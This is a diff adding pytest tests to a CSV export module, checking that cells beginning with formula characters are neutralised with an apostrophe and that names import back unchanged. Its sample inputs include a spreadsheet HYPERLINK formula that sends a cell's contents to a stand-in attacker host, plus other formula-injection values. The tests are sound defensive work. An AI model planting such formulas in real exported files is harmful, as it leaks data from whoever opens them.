@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
+import io
 from pathlib import Path
 
 import pytest
@@ -238,3 +240,43 @@ def test_each_bad_fixture_is_reported_at_its_row_and_column(
     name: str, expected: list[tuple[int, str]]
 ) -> None:
     assert [(e.row, e.column) for e in _file(name).errors] == expected
+
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?"&B2)', "+1+2", "-3+4", "@SUM(A1)", "\tx", "\r=1"]
+
+
+@pytest.mark.parametrize("value", FORMULAS)
+def test_an_exported_cell_never_starts_a_spreadsheet_formula(value: str) -> None:
+    assert csvio.cell(value) == "'" + value
+    assert not csvio.cell(value).startswith(csvio.FORMULA_STARTS)
+
+
+def test_plain_values_dates_and_blanks_export_as_they_are() -> None:
+    assert csvio.export_row(["A1", "Ann O'Neil", dt.date(2020, 1, 2), None, 3]) == [
+        "A1",
+        "Ann O'Neil",
+        "2020-01-02",
+        "",
+        "3",
+    ]
+
+
+def test_a_formula_like_name_is_neutralised_on_export_and_imports_back_unchanged() -> None:
+    rows = [
+        {
+            "number": f"A{i}",
+            "name": name,
+            "branch": "hillford",
+            "join_date": dt.date(2020, 1, 2),
+            "status": "full",
+            "gender": "-",
+        }
+        for i, name in enumerate(["=1+1", "@cmd", "+44 name", "'=kept", "''-x", "it's"])
+    ]
+    text = csvio.write(rows)
+    for cells in csv.reader(io.StringIO(text, newline="")):
+        assert not any(c.startswith(csvio.FORMULA_STARTS) for c in cells), cells
+    r = csvio.parse(text, UNITS, today=TODAY)
+    assert r.errors == []
+    assert [m.name for m in r.rows] == ["=1+1", "@cmd", "+44 name", "'=kept", "''-x", "it's"]
+    assert {m.gender for m in r.rows} == {"-"}
